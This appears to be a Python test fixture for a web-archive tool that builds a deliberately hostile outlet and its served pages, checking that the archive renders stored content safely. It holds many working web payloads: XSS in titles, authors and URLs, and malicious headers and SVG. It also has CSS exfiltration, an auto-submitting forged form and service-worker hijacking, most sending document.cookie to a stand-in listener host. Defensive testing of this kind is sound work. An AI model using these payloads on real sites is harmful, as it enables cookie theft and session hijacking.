"""An outlet that attacks whoever reads it: what it publishes is crawled for real, and looked at in a real browser.

Its words are markup that runs when anybody forgets to escape it: in titles, texts, authors, the feed's name, URLs,
heads. Its pages bring what browsers obey: scripts, handlers, frames, forms, hints, styles that ask, refreshes, a
base, service workers, drawings with script. All of it says `SAID` on the console if it runs, and calls `CALLS`.
"""

from __future__ import annotations

import atexit
import functools
import shutil
import tempfile
from dataclasses import dataclass
from pathlib import Path

from archive.db import articles, findings
from archive.domain.urls import normalise
from archive.home import Home
from tests.homes import START, Place
from tests.newsroom import Newsroom

SAID = "the hostile script ran"
CALLS = "http://listener.example"

RUN = f"console.log('{SAID}');fetch('{CALLS}/fetch?'+document.cookie)"
WORDS = (
    f'</title></textarea></script>"\'><img src="{CALLS}/words" onerror="{RUN}"><script>{RUN}</script>{{{{7*7}}}}'
)
HEADS = (
    ("Set-Cookie", "session=stolen; Path=/"),
    ("Refresh", f"0; url={CALLS}/refresh"),
    ("Link", f"<{CALLS}/preload>; rel=preload; as=script, <{CALLS}>; rel=preconnect"),
    ("Content-Disposition", 'attachment; filename="..\\..\\<script>.html.exe"'),
    ("Content-Security-Policy", "default-src * 'unsafe-inline' 'unsafe-eval'"),
    ("Service-Worker-Allowed", "/"),
    ("Access-Control-Allow-Origin", "*"),
    ("X-Odd", f"<script>{RUN}</script>"),
)
STORY = (
    "<p>As the outlet wrote it: the council sold the harbour on Monday, and nobody in it objected to that.</p>" * 6
)
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{RUN}">
<script>{RUN}</script><image xlink:href="{CALLS}/svg-image" href="{CALLS}/svg-image2"/>
<a xlink:href="javascript:{RUN}"><text y="20">x</text></a><use href="{CALLS}/use#x"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{CALLS}/foreign"/></foreignObject></svg>"""

HEAD = {
    "script": f"<script>{RUN}</script><script src={CALLS}/script.js></script><script type=module>{RUN}</script>",
    "base": f'<base href="{CALLS}/base/" target=_top>',
    "refresh": f'<meta http-equiv=refresh content="0;url={CALLS}/refresh">',
    "loosened": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">",
    "json-ld": f'<script type="application/ld+json">{{"headline": "</script><script>{RUN}</script>"}}</script>',
    "hints": "".join(
        f"<link rel={rel} href={CALLS}/{rel}>"
        for rel in (
            "preconnect",
            "dns-prefetch",
            "prefetch",
            "preload",
            "prerender",
            "modulepreload",
            "manifest",
            "icon",
        )
    ),
    "styles": f"""<link rel=stylesheet href={CALLS}/link.css><style>@import "{CALLS}/import.css";
@font-face{{font-family:x;src:url({CALLS}/font)}} p{{font-family:x;background:url({CALLS}/back)}}
input[name=_token][value^=a]{{background:url({CALLS}/a)}} p::before{{content:url({CALLS}/content)}}
body{{background:image-set("{CALLS}/set" 1x);cursor:url({CALLS}/cursor),auto}}</style>""",
}
BODY = {
    "handlers": f'<img src=x onerror="{RUN}"><details open ontoggle="{RUN}">x</details>'
    f'<p style="background:url({CALLS}/inline)">x',
    "pictures": f'<img src={CALLS}/src srcset="{CALLS}/srcset 2x">'
    f"<picture><source srcset={CALLS}/source><img></picture>",
    "drawing": SVG,
    "frames": f'<iframe srcdoc="<script>{RUN}</script>"></iframe><iframe src={CALLS}/frame></iframe>'
    f"<object data={CALLS}/object></object><embed src={CALLS}/embed><iframe src='/settings'></iframe>",
    "media": f"<video src={CALLS}/video poster={CALLS}/poster autoplay></video>"
    f"<audio src={CALLS}/audio autoplay></audio>",
    "forms": '<form id=f method=post action="/language/de"><input name=_token autofocus onfocus="f.submit()">'
    "</form><script>document.forms[0].submit()</script>",
    "links": f'<a href="javascript:{RUN}" ping={CALLS}/ping>x</a>'
    f"<a href='data:text/html,<script>{RUN}</script>'>y</a>",
    "opener": f"<script>{RUN};if(window.opener)opener.location='{CALLS}/opener';"
    f"top.location='{CALLS}/top'</script>",
    "worker": "<script>navigator.serviceWorker.register('/web/2026/http://raw.example/sw.js',{scope:'/'})"
    f".then(()=>console.log('{SAID}'))</script>",
}
PAGES = {
    **{
        name: f"<html><head><title>{name}</title>{part}</head><body><h1>{name}</h1>{STORY}"
        for name, part in HEAD.items()
    },
    **{
        name: f"<html><head><title>{name}</title></head><body><h1>{name}</h1>{STORY}{part}"
        for name, part in BODY.items()
    },
}


@dataclass(frozen=True)
class Hostile:
    """A home with all of it."""

    home: Home
    paths: tuple[str, ...]  #: of the reading room, where something of it is shown
    stills: tuple[str, ...]  #: where captured pages are shown still
    mementos: tuple[str, ...]  #: and where as they were
    taken: tuple[str, ...]  #: what is taken away as a file


@functools.cache
def hostile() -> Hostile:
    """Publish and crawl it, once in a process."""
    folder = Path(tempfile.mkdtemp(prefix="stet-hostile-"))
    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    with Newsroom(start=START) as room:
        evil = room.outlet("evil.example", title=WORDS)
        evil.publish_many(4)  # one of two that goes would be held for an outage
        edited = _published(evil, "/edited")
        gone = _published(evil, f'/"><script>{RUN}</script>')
        urls = [_served(room, f"/{name}.html", text, "text/html") for name, text in PAGES.items()]
        urls.append(_served(room, f"/all?<script>{RUN}</script>", _everything(), "text/html"))
        urls += [
            _served(room, "/drawing.svg", SVG, "image/svg+xml"),
            _served(room, "/sw.js", RUN, "text/javascript"),
        ]
        place = Place(folder / "home", room, confirmations=2, span="1s")
        place.watch(evil)
        place.watch(stories=urls)
        place.look()
        edited.edit("harbour", f"harbour <script>{RUN}</script>")
        gone.withdraw(404, listed=True)
        for _ in range(3):
            place.look()
        return _known(place, [*urls, edited.url, gone.url])


def _published(evil, path: str):
    text = [
        f"The council sold the harbour on Monday. {WORDS}",
        "Nobody objected to it, said the mayor of the town.",
        "Fishermen had asked for a vote on it since the spring, and were told that there was none to be had.",
        "What becomes of the forty boats that lie in it during winter is to be decided by the new owner alone.",
        "An inquiry of the province into the price begins next week; its report is to be published in autumn.",
    ]
    return evil.publish(f"Harbour sold {WORDS}", text, author=f"Ann {WORDS}", section="News", path=path)


def _served(room, path: str, text: str, kind: str) -> str:
    room.serve_page("raw.example", path, text.encode(), kind, headers=HEADS)
    return f"http://raw.example{path}".replace("<", "%3C").replace(">", "%3E")


def _everything() -> str:
    head, body = "".join(HEAD.values()), "".join(BODY.values())
    return f'<html><head><title>{WORDS}{head}</head><body onload="{RUN}"><h1>{WORDS}</h1>{STORY}{body}'


def _known(place: Place, urls: list[str]) -> Hostile:
    with place.reading() as connection:
        ids = [found.id for url in urls if (found := articles.by_url(connection, normalise(url)))]
        diffs = [f"/diff?from={c.from_version}&to={c.to_version}" for c in findings.changes_listed(connection)]
    assert len(set(ids)) == len(urls), ids
    assert diffs
    words = "/search?q=%3Cscript%3E%22harbour"
    pages = ["/", "/changes", "/takedowns", "/articles", "/outlets", "/outlets/evil", "/search?q=harbour", words]
    pages += ["/alerts", "/status", "/settings", f"/changes?added=%3Cscript%3E{RUN.replace('+', '%2B')}"]
    files = [f"/article/{number}/{kind}" for number in ids for kind in ("warc", "wacz", "text")]
    return Hostile(
        home=place.home,
        paths=(*pages, *diffs, *(f"/article/{number}" for number in ids)),
        stills=tuple(f"/framed/20990101000000/{url}" for url in urls),
        mementos=tuple(f"/web/20990101000000/{url}" for url in urls),
        taken=tuple(files),
    )
